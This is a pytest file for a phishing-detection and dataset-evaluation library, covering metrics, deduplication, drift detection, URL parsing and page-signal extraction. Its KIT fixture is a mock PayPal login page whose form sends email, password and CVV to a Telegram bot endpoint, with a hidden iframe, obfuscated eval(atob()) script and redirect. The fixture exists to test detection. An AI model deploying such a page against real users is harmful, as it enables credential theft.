import random

import pytest
from pyspark.sql import functions as F

from siltweir.operators import charmodel as C
from siltweir.operators import dedup as D
from siltweir.operators import drift, evaluation as E, findings as G, page as P, relational as R
from siltweir.plans import q_page, q_text, q_url
from siltweir.sources import loaders
from siltweir.streaming import state


@pytest.fixture(scope="module")
def toy(spark):
    d = ["2024-01-01", "2024-01-15", "2024-02-01", "2024-02-15", "2024-03-01", "2024-03-15", "2024-06-01", "2024-06-15"]
    return spark.createDataFrame([(i, t) for i, t in enumerate(d)], "x int, t string").select("x", F.col("t").cast("timestamp_ntz").alias("ts"))


def test_temporal_split(toy):
    got = {r.window_months: r.n for r in E.temporal_split(toy, "ts", "2024-02-01", (1, 6)).groupBy("window_months").agg(F.count("*").alias("n")).collect()}
    assert got == {0: 3, 1: 2, 6: 5}


def test_auc_and_single_class(spark):
    df = spark.createDataFrame([(0.1, 0), (0.4, 0), (0.4, 1), (0.9, 1)], "s double, y int")
    assert E.roc_auc(df, "s", "y").first().auc == pytest.approx(0.875)
    assert E.roc_auc(df.where("y = 1"), "s", "y").first().auc is None


def test_bootstrap_is_deterministic(spark):
    df = spark.createDataFrame([(i, i / 100, int(i >= 50)) for i in range(100)], "k long, s double, y int")
    a, b = (E.bootstrap_auc(df, "s", "y", "k", 30).first() for _ in range(2))
    assert a == b and a.lo == a.hi == 1.0


def test_prevalence(spark):
    r = spark.range(1).select(E.prevalence_precision(F.lit(0.9), F.lit(0.01), F.lit(0.001)).alias("p"), E.prevalence_precision(F.lit(0.0), F.lit(0.0), F.lit(0.1)).alias("z")).first()
    assert r.p == pytest.approx(0.0009 / (0.0009 + 0.00999)) and r.z is None


def test_quantile_bins(spark):
    df = spark.createDataFrame([(i, float(i)) for i in range(8)], "k int, v double")
    got = [r.n for r in R.quantile_bins(df, "v", "k", 3).groupBy("bin").agg(F.count("*").alias("n")).orderBy("bin").collect()]
    assert got == [3, 2, 3]


def test_near_pairs_against_brute_force(spark):
    rnd = random.Random(1)
    texts = ["".join(rnd.choice("abcde") for _ in range(40)) for _ in range(60)]
    texts += [t + "x" for t in texts[:20]] + [t[:-1] for t in texts[20:30]] + ["", "a", None]
    df = spark.createDataFrame(list(enumerate(texts)), "k long, t string")
    got = {(r.a, r.b) for r in D.near_pairs(df, "k", "t").collect()}
    sh = lambda s: {s[i : i + 4] for i in range(len(s) - 3)} or {s}
    first = {}
    for i, t in enumerate(texts):
        if t is not None:
            first.setdefault(t, i)
    want = {(a, b) for s, a in first.items() for t, b in first.items() if a < b and len(sh(s) & sh(t)) >= 0.8 * len(sh(s) | sh(t))}
    assert got == want and want


def test_greedy_matches_sequential(spark):
    pairs = [(1, 2), (2, 3), (3, 4), (1, 5), (5, 6)]
    df = spark.createDataFrame([(i,) for i in range(1, 8)], "k long")
    p = spark.createDataFrame([(a, b, 1.0) for a, b in pairs], "a long, b long, similarity double")
    kept = []
    for i in range(1, 8):
        if not any((j, i) in pairs for j in kept):
            kept.append(i)
    assert sorted(r.k for r in D.greedy_keep(df, "k", p).where("kept").collect()) == kept


def test_surprisal(spark):
    legit = spark.createDataFrame([(i, u) for i, u in enumerate(["google.com/search", "google.com/maps", "wikipedia.org/wiki", "github.com/login", "google.com/mail", "wikipedia.org/home"])], "k long, t string")
    m = C.fit(legit, "t", 3)
    t = spark.createDataFrame([(1, "google.com/maps"), (2, "xq7zk9vw3jp"), (3, "ab")], "k long, t string")
    got = {r.k: r.surprisal for r in C.surprisal(t, "k", "t", m, 3).collect()}
    assert got[1] < got[2] and got[3] == 0.0


def test_psi_zero_for_equal_groups(spark):
    df = spark.createDataFrame([(g, float(i)) for g in "ab" for i in range(100)], "g string, v double")
    p = spark.createDataFrame([("a", "b")], "expected string, actual string")
    assert drift.psi_pairs(df, "v", "g", p).first().psi == pytest.approx(0.0)


def test_adwin():
    r = random.Random(0)
    a = drift.Adwin()
    assert not any(a.update(r.gauss(0.8, 0.05)) for _ in range(3000))
    hits = [i for i in range(1000) if a.update(r.gauss(0.3, 0.05))]
    assert hits and hits[0] < 200


def test_adaptive_loop():
    r = random.Random(0)
    scores = [[min(max(r.gauss(0.95, 0.02), 0), 1) for _ in range(500)] for _ in range(4)] + [[r.random() for _ in range(500)] for _ in range(4)]
    calls = []
    out = drift.adaptive_loop(scores, [], lambda c, pick: calls.append((c, len(pick))))
    assert calls and calls[0][0] == 4 and out["labels_used"] == 10 * len(calls)


def test_score_bins(spark):
    df = spark.createDataFrame([(1, 0.0, False), (2, 3.0, False), (2, 2.0, False), (3, 0.0, True)], "k int, w double, c boolean")
    got = {r.k: (r.risk, r.verdict) for r in G.combine(df, "k", "w", "c").collect()}
    assert got == {1: (20, "safe"), 2: (97, "phishing"), 3: (97, "phishing")}


KIT = """<html><head><title>PayPal - Log in</title><link rel="icon" href="https://www.paypalobjects.com/i.ico"></head><body oncontextmenu="return false">
<img src="/img/paypal-logo.png" alt="PayPal logo"><form action="https://api.telegram.org/bot1/send" method="POST"><input name="email"><input type="password" name="p"><input name="cvv"></form>
<a href="#">x</a><a href="/a">y</a><iframe width="0" src="https://other.test/x"></iframe><script>eval(atob("x"));location.href="https://go.test/"</script></body></html>"""


def test_page_kit(spark):
    df = spark.createDataFrame([(1, KIT, "http://evil.test/x", "text/html"), (2, "%PDF", "http://a.test", "application/pdf"), (3, None, None, "text/html")], "k long, h string, u string, c string")
    got = {r.page_key: r for r in P.signals(P.parse(df, "k", "h", "u", "c", ["test", "com", "org"])).collect()}
    r = got[1]
    assert r.has_password and r.exfil == "api.telegram.org" and r.external_form and r.favicon_domain == "paypalobjects.com" and r.anti_inspect and r.login_language
    assert r.brand_claims == ["paypal"] and r.sensitive_fields == ["cvv"] and r.hidden_iframes == 1 and r.dead_link_ratio == 0.5 and set(r.obfuscation) == {"eval()", "atob()"} and r.js_redirects == ["https://go.test/"]
    assert not got[2].is_html and got[3].is_html and got[3].text_length == 0


def test_sources(spark, tmp_path):
    (tmp_path / "a.csv").write_text("URL,label\nhttp://x.test,0\nhttp://y.test,1\n")
    (tmp_path / "f.csv").write_text("url,submission_time\nhttp://z.test,2024-05-01T10:00:00+00:00\nhttp://w.test,nonsense\n")
    (tmp_path / "r.csv").write_text("1,a.test\n2,b.test\n3,c.test\n")
    d = f"file://{tmp_path}"
    x = loaders.corpus(loaders.labelled_csv(spark, d + "/a.csv", "2024-03-04", "A"), loaders.feed_csv(spark, d + "/f.csv", "F"), loaders.ranked_csv(spark, d + "/r.csv", "R", 1, 3, "2024-06-01"), rename={"R": "F"})
    got = {r.url: (r.label, r.source, str(r.timestamp)) for r in x.collect()}
    assert got["http://x.test"][0] == 1 and got["http://y.test"][0] == 0 and got["http://z.test"] == (1, "F", "2024-05-01 10:00:00") and got["http://w.test"][2] == "None" and "https://a.test" not in got and got["https://c.test"][1] == "F"
    assert loaders.word_list(spark, d + "/none.gz").count() == 0
    for rows in ([("m1", 1), ("m2", 2)], [("m2", 3)]):
        loaders.write_results(spark.createDataFrame(rows, "model string, v int"), d + "/out", "model")
    assert sorted((r.model, r.v) for r in loaders.read_results(spark, d + "/out").collect()) == [("m1", 1), ("m2", 3)]


def test_streams(spark, tmp_path):
    rows = [("c", float(t)) for t in (0, 1, 2, 3, 70, 71)]
    spark.createDataFrame(rows, "c string, t double").write.parquet(str(tmp_path / "in"))
    s = spark.readStream.schema("c string, t double").parquet(str(tmp_path / "in"))
    out = state.drain(state.rate_limited(s, "c", "t", 3, 60.0), str(tmp_path / "cp")).orderBy("at").collect()
    assert [r.allowed for r in out] == [True, True, True, False, True, True]


def _experiments(spark, path, rows):
    spark.createDataFrame(rows, "row_id long, url string, source string, split string, label int").write.parquet(f"{path}/run_b6_experiments.parquet")
    return str(path)


def test_duplicates_over_all_sources(spark, tmp_path):
    u = "https://login.example.test/account/verify/session/0123456789"
    v = "https://another.test/quite/different/path/of/its/own/abcdefgh"
    rows = [(1, u, "Tranco", "test", 0), (2, u + "x", "PhishTank", "train", 1), (3, v, "KitWatch", "test", 1), (4, v, "PhiUSIIL", "train", 1), (5, "https://lone.test/", "InboxRelay", "test", 0), (6, None, "KitWatch", "test", 1), (7, u + "yy", "PhiUSIIL", None, 1)]
    d = _experiments(spark, tmp_path, rows)
    assert {(r.a, r.b) for r in q_text.near_dup_pairs(spark, d).collect()} == {(1, 2), (1, 7), (2, 7)}
    assert {r.kept: (r.n, r.ids) for r in q_text.greedy_dedup(spark, d).collect()} == {True: (3, 9), False: (2, 9)}
    r = q_text.leakage(spark, d).first()
    assert (r.n, r.leaked) == (3, 2)


def test_odd_addresses_take_part(spark, tmp_path):
    rows = [(1, "https://a.example.com/x", "A", "train", 0), (2, "https://a.ｅxample。com/y", "B", "validation", 0), (3, "https://ex\u00adample.com/é", "A", "test", 1), (4, "https://пример.com/", "B", "test", 1), (5, None, "A", "test", 1)]
    d = _experiments(spark, tmp_path, rows)
    spark.createDataFrame([("com", "icann")], "suffix string, section string").write.parquet(f"{d}/public_suffix.parquet")
    got = {r.host: (r.urls, r.registrable) for r in q_url.url_spelled_hosts(spark, d).collect()}
    assert got == {"a.example.com": (2, "example.com"), "example.com": (1, "example.com"), "пример.com": (1, "пример.com"), None: (1, None)}
    # the raw hosts, as SQL reads them, of all rows
    raw = {r.row_id: r.host for r in q_url.url_registrable(spark, d).collect()}
    assert raw == {1: "a.example.com", 2: "a.ｅxample。com", 3: "ex\u00adample.com", 4: "пример.com", 5: None}
    assert sum(r.urls for r in q_url.url_host_profile(spark, d).collect()) == 5
    steps = {0: sum(len(u) - 3 for _, u, *_, y in rows if u and y == 0), 1: sum(len(u) - 3 for _, u, *_, y in rows if u and y == 1)}
    assert {r.label: r.n for r in q_text.markov_counts(spark, d).collect()} == steps
    assert {r.row_id for r in q_text.char_surprisal(spark, d).collect()} == {3, 4}
    assert q_text.surprisal_threshold(spark, d).first().threshold > 0


def test_odd_bodies_take_part(spark, tmp_path):
    page = "<html><title>{}</title></html>"
    rows = [(1, page.format("A").encode(), "text/html"), (2, page.format("caf\xe9").encode("latin-1"), "text/html; charset=ISO-8859-1"), (7, page.format("caf\xe9").encode("latin-1"), "text/html; charset=nonsense"), (3, page.format("C").encode(), None), (4, page.format("D").encode(), "text/plain"), (5, b"%PDF", "application/pdf"), (6, None, "text/html")]
    spark.createDataFrame([(k, b, "http://a.test/", None, c) for k, b, c in rows], "fetch_id long, body binary, requested_url string, final_url string, content_type string").write.parquet(f"{tmp_path}/fetch_results.parquet")
    spark.createDataFrame([("test", "icann")], "suffix string, section string").write.parquet(f"{tmp_path}/public_suffix.parquet")
    assert {r.fetch_id: r.title for r in q_page.page_titles(spark, str(tmp_path)).collect()} == {1: "A", 2: "caf\xe9", 3: "C", 4: "D", 7: "caf\ufffd"}
    assert {r.page_key: r.is_html for r in q_page.page_signals(spark, str(tmp_path)).collect()} == {1: True, 2: True, 3: True, 4: True, 5: False, 7: True}


def test_generation_from_a_model_of_any_size(spark):
    n = 2_000_100  # contexts, in 3,907 blocks
    seeds = spark.range(20).withColumnRenamed("id", "seed")
    big = spark.range(n).select(F.lpad(F.conv("id", 10, 36), 5, "0").alias("context"), F.lit(C.END).alias("next"), F.lit(1).alias("n"))
    got = {r.seed: int(r.text, 36) for r in C.generate(big, seeds, 5).collect()}
    assert got == {i: random.Random(i).choice(range(n)) for i in range(20)}
    # the same draws as from a dictionary of all contexts
    m = C.fit(spark.range(900).select(F.concat(F.conv(F.col("id") * 7919, 10, 36), F.lit("é/x")).alias("t")), "t", 2)
    table = {}
    for r in m.orderBy("context", "next").collect():
        table.setdefault(r.context, []).append((r.next, r.n))
    for seed, text in C.generate(m, seeds, 2, 30).collect():
        r = random.Random(seed)
        t = r.choice(sorted(table))
        while len(t) < 30 and t[-2:] in table:
            c = r.choices(*zip(*table[t[-2:]]))[0]
            if c == C.END:
                break
            t += c
        assert text == t
    assert [r.text for r in C.generate(m.limit(0), seeds, 2).collect()] == [""] * 20
